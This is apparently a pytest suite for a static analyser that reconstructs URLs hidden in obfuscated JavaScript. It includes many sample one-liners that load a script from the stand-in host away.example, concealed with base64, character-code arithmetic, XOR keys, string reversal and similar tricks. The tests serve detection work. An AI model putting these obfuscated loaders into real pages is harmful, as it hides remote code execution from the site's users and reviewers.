"""The texts that scripts put together are worked out without running them, in time that grows with the script."""

from __future__ import annotations

import base64
import time

import pytest

from auditor.content.page.script_constants import MAX_CODE, read_constant_texts

AWAY = "https://away.example/x.js"


def codes(by: int) -> str:
    return ",".join(str(ord(letter) + by) for letter in AWAY)


def crossed(key: str) -> str:
    return "".join(f"\\x{ord(one) ^ ord(other):02x}" for one, other in zip(AWAY, key * len(AWAY), strict=False))


@pytest.mark.parametrize(
    "code",
    [
        'var h="away",t="example",p="https:"+"//";s.src=p+h+"."+t+"/x.js"',
        'let u="https:";u+="//";u+="away";u+=".example/x.js";s.src=u',
        'var a=["https:","","away.example","x.js"];s.src=a.join("/")',
        'const m={a:"https://",b:"away",c:".example/x.js"};location.replace(m.a+m.b+m["c"])',
        "const h='away',t='example';fetch(`https://${h}.${t}/x.js`)",
        "function h(){return ['away','example'].join('.')}s.src='https://'+h()+'/x.js'",
        's.src="https://".concat("away",".","example","/x.js")',
        's.src="https://away@example/x.js".replace("@",".")',
        "(function(w){var q='https:/'+'/away'; w.open(q+'.example'+'/x.js')})(window)",
    ],
)
def test_what_is_put_together_of_pieces_is_joined(code: str) -> None:
    assert AWAY in read_constant_texts(code).joined


@pytest.mark.parametrize(
    "code",
    [
        f'const k="{base64.b64encode(AWAY.encode()).decode()}";fetch(atob(k))',
        f'import("{AWAY[::-1]}".split("").reverse().join(""))',
        f"s.src=String.fromCharCode({codes(0)})",
        f"var c=[{codes(7)}],o='';for(var i=0;i<c.length;i++)o+=String.fromCharCode(c[i]-7);s.src=o",
        f"location.href=[{codes(3)}].map(x=>String.fromCharCode(x-3)).join('')",
        f"var k='key',d='{crossed('key')}',o='';for(i=0;i<d.length;i++){{o+=String.fromCharCode(d.charCodeAt(i)"
        "^k.charCodeAt(i%k.length))}location=o",
        "s.src='hQttQps://aQway.exQample/x.jQs'.replace(/Q/g,'')",
        f"var o={{p:[{codes(0)}]}};s.src=o.p.map(function(c){{return String.fromCharCode(c)}}).join('')",
        "s.src=decodeURIComponent('https%3A%2F%2Faway.example%2Fx.js')",
        f"var d=atob('{base64.b64encode(b'//away.example').decode()}');s.src='https:'+d+'/x.js'",
    ],
)
def test_what_nobody_reads_is_decoded(code: str) -> None:
    assert AWAY in read_constant_texts(code).decoded


@pytest.mark.parametrize(
    "code",
    [
        "function load(h,t){s.src='https://'+h+'.'+t}",
        "s.src='https://'+document.title+'.example'",
        "e=>{s.src='https://'+e}",
        "x.innerHTML='<td>'+y+'</td>'",
    ],
)
def test_what_is_not_known_is_not_made_up(code: str) -> None:
    said = read_constant_texts(code)
    assert not any("away" in text for text in (*said.joined, *said.decoded))


def test_a_parameter_takes_over_the_name_of_a_constant() -> None:
    said = read_constant_texts("var t='example';function load(t){s.src='https://away.'+t}")
    assert "https://away.example" not in said.joined


@pytest.mark.parametrize(
    "piece",
    [
        *("(", "[", '"a"+', "`${a}`+", "{a:", "a.b(", "function(a,", "/*", "'\\", "a+=a+a;", "a=>", "x.y=", '"//'),
        *("a=[a,a,a,a];", "a=a.concat(a,a);", 'a="bbbb";a+=a;', "1,", "atob(", "String.fromCharCode(1,"),
    ],
)
def test_no_script_costs_more_than_it_is_long(piece: str) -> None:
    code = ('a="xxxxxxxxxx".split("");s.src="//";' + piece * MAX_CODE)[:MAX_CODE]
    before = time.process_time()
    read_constant_texts(code)
    assert time.process_time() - before < 1


def test_letters_out_of_an_alphabet_are_put_together() -> None:
    letters = sorted(set(AWAY))
    numbers = ",".join(str(letters.index(letter)) for letter in AWAY)
    code = f"var A='{''.join(letters)}',n=[{numbers}],u='';for(i=0;i<n.length;i++)u+=A[n[i]];s.src=u"
    assert AWAY in read_constant_texts(code).decoded
